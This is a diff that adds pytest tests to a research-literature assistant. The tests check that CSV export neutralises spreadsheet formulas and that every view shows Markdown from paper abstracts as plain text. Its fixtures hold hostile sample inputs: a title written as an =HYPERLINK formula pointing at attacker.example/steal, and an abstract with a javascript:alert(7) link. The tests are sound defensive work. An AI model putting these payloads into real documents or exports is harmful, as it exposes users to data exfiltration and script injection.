@@ -19,7 +19,9 @@ models, real HTTP through httpx, http.client and gradio_client):
 
 from __future__ import annotations
 
+import csv
 import http.client
+import io
 import json
 import os
 import shutil
@@ -538,3 +540,128 @@ def test_browser_shows_the_hostile_paper_as_text_and_runs_none_of_it(server, art
         finally:
             browser.close()
     assert dialogs == [], f"injected script ran: {dialogs}"
+
+
+# --- spreadsheet formulas and Markdown in corpus text ---------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("http://attacker.example/steal","Cube Droppings Mark Wombat Burrows")'
+MARKUP_ABSTRACT = (
+    "Wombats mark the entrances of their burrows with **cube-shaped** droppings placed at night. "
+    "Radio tags on 25 wombats show that each animal returns to a burrow marked with _its own_ droppings "
+    "in 9 of 10 nights, as [the burrow map](javascript:alert(7)) shows. "
+    "Camera traps and `scent` swabs were placed at 40 burrows on a Tasmanian plateau. "
+    "A chemical <b>scent</b> signature, not the ~~cube~~ shape, tells wombats which burrow is theirs."
+)
+WOMBAT_QUESTION = "How do wombats mark the entrances of their burrows?"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# What the abstract's markup would become if a view rendered it as Markdown.
+FORMATTED = ("<strong>cube-shaped", "<em>its own", "<code>scent", "<del>cube", "<s>cube", 'href="javascript', "<b>scent")
+
+
+def _markdown_html(markdown: str) -> str:
+    """HTML from Markdown as Gradio's Markdown renders it (CommonMark + tables,
+    strikethrough; raw HTML passed through, as gr.Markdown passes it to its sanitizer)."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
+
+
+def _not_formatted(html: str) -> None:
+    lowered = html.lower()
+    for needle in FORMATTED:
+        assert needle not in lowered, f"abstract markup rendered ({needle!r}) in: {html[:2000]}"
+
+
+def test_csv_export_neutralizes_formulas_and_markdown_and_json_keep_the_text():
+    from assistant.table import Cell, LiteratureTable, Row, spreadsheet_safe
+
+    paper = Paper(title=FORMULA_TITLE, abstract=MARKUP_ABSTRACT, urls=["https://github.com/x/wombats"])
+    texts = {"problem": "+1 burrow per night", "method": "-2 dB noise", "data": "@SUM(A1:A9) traps", "result": "\tA tab first"}
+    cells = {column: Cell(text, 1.0, text) for column, text in texts.items()}
+    cells["code"] = Cell(paper.code_url)
+    table = LiteratureTable("wombats", ["problem", "method", "data", "result", "code"], [Row(paper, cells, 0.9)])
+    rows = list(csv.DictReader(io.StringIO(table.to_csv())))
+    assert rows[0]["title"] == "'" + FORMULA_TITLE
+    for column, text in texts.items():
+        assert rows[0][column] == "'" + text, rows[0]
+    assert rows[0]["code"] == paper.code_url and rows[0]["problem_support"] == "1.0000"
+    for value in rows[0].values():
+        assert not value.startswith(FORMULA_STARTS), value
+    assert spreadsheet_safe("\rcarriage") == "'\rcarriage" and spreadsheet_safe("  =1+1") == "'  =1+1"
+    assert spreadsheet_safe("Wombats dig -2 m deep") == "Wombats dig -2 m deep"
+    # Markdown and JSON are read as text, not by a spreadsheet: verbatim there
+    assert FORMULA_TITLE in table.to_markdown() and "@SUM(A1:A9) traps" in table.to_markdown()
+    data = table.to_dict()
+    assert data["rows"][0]["title"] == FORMULA_TITLE and data["rows"][0]["cells"]["method"]["text"] == "-2 dB noise"
+
+
+def test_markup_in_evidence_is_text_in_the_chat_the_sources_and_summaries():
+    from assistant.ui.render import ChatEntry, SourceCard, markdown_text, render_answer, render_sources
+
+    quoted = "Wombats mark burrows with **cube-shaped** droppings, _its own_ `scent` and [the burrow map](javascript:alert(7))."
+    card = SourceCard(n=1, id="p-w", title="Wombat: Cube Droppings", abstract=MARKUP_ABSTRACT, evidence=[quoted], claims=[(quoted, 1.0)])
+    entry = ChatEntry(question="wombats?", answer=f"*Wombat* says so [1]. {quoted} [1]", status="done", mode="composed", cards=[card])
+    bubble = render_answer(entry, 0)
+    panel = render_sources([entry])
+    for html in (bubble, panel):
+        _not_formatted(_markdown_html(html))  # also as Markdown: the bubble is one HTML block
+        assert "**cube-shaped**" in html and "[the burrow map](javascript:alert(7))" in html
+    assert "<em>Wombat</em>" in bubble  # the composer's name for the cited paper stays italic
+    shown = markdown_text("# Wombats " + MARKUP_ABSTRACT + "\n- 1. list", names=["Wombat"])
+    html = _markdown_html(f"- {shown}")
+    _not_formatted(html)
+    assert "<h1" not in html and "<ol" not in html and html.count("<li>") == 1
+    assert "**cube-shaped**" in html and "[the burrow map](javascript:alert(7))" in html
+    assert "<em>Wombat</em>" in _markdown_html(markdown_text("*Wombat* digs.", names=["Wombat"]))
+
+
+@pytest.fixture(scope="module")
+def wombat_paper(server, tmp_path_factory: pytest.TempPathFactory) -> Paper:
+    """A paper whose title is a spreadsheet formula and whose abstract holds Markdown,
+    ingested into the running server's store by another process."""
+    path = tmp_path_factory.mktemp("wombats") / "wombats.jsonl"
+    path.write_text(json.dumps({"title": FORMULA_TITLE, "abstract": MARKUP_ABSTRACT}) + "\n", encoding="utf-8")
+    done = subprocess.run(
+        [sys.executable, "-m", "assistant.cli", "ingest", str(path)], env=server["env"], capture_output=True, text=True, timeout=300
+    )
+    assert done.returncode == 0 and "1 added" in done.stdout, done.stdout + done.stderr
+    return Paper(title=FORMULA_TITLE, abstract=MARKUP_ABSTRACT)
+
+
+def test_markup_and_formulas_in_a_paper_are_text_in_every_view_and_export(server, client, wombat_paper):
+    from gradio_client import Client
+
+    # chat answer and sources panel: the abstract's markup shows as the characters it is
+    _, messages, panel, _ = client.predict(WOMBAT_QUESTION, api_name="/ask")
+    answer = _text(messages[-1])
+    assert "Could not answer" not in answer and "No relevant paper" not in answer, answer
+    for html in (answer, panel):
+        _not_formatted(html)
+        _not_formatted(_markdown_html(html))
+    assert "**cube-shaped**" in panel and "[the burrow map](javascript:alert(7))" in panel
+    # one paper's summary, shown as Markdown and downloaded as .md
+    paths_only = Client(server["url"], verbose=False, download_files=False)
+    markdown, md_button, _ = paths_only.predict(wombat_paper.id, api_name="/summarize_paper")
+    assert "Could not summarize" not in markdown, markdown
+    html = _markdown_html(markdown)
+    _not_formatted(html)
+    assert any(text in html for text in ("**cube-shaped**", "_its own_", "`scent`", "&lt;b&gt;scent", "~~cube~~")), html
+    status, text = _served_file(server, md_button)
+    assert status == 200 and text.strip() == markdown.strip()
+    # literature table: the Dataframe gets the text as it is (a "str" column shows text);
+    # the CSV download neutralizes formulas, the Markdown download keeps them verbatim
+    note, frame, _, csv_button, md_button = paths_only.predict(
+        "wombats marking burrows with droppings", 3, ["problem", "method", "data", "result"], api_name="/literature_table"
+    )
+    assert "Could not" not in note and "No paper" not in note, note
+    rows = frame["data"] if isinstance(frame, dict) else frame.values.tolist()
+    assert [row[0] for row in rows if "Wombat" in row[0]] == [FORMULA_TITLE], rows
+    status, text = _served_file(server, csv_button)
+    assert status == 200, status
+    parsed = list(csv.DictReader(io.StringIO(text)))
+    assert "'" + FORMULA_TITLE in [row["title"] for row in parsed], text[:1000]
+    for row in parsed:
+        for value in row.values():
+            assert not value.startswith(FORMULA_STARTS), value
+    status, text = _served_file(server, md_button)
+    assert status == 200 and FORMULA_TITLE.replace("|", "\\|") in text
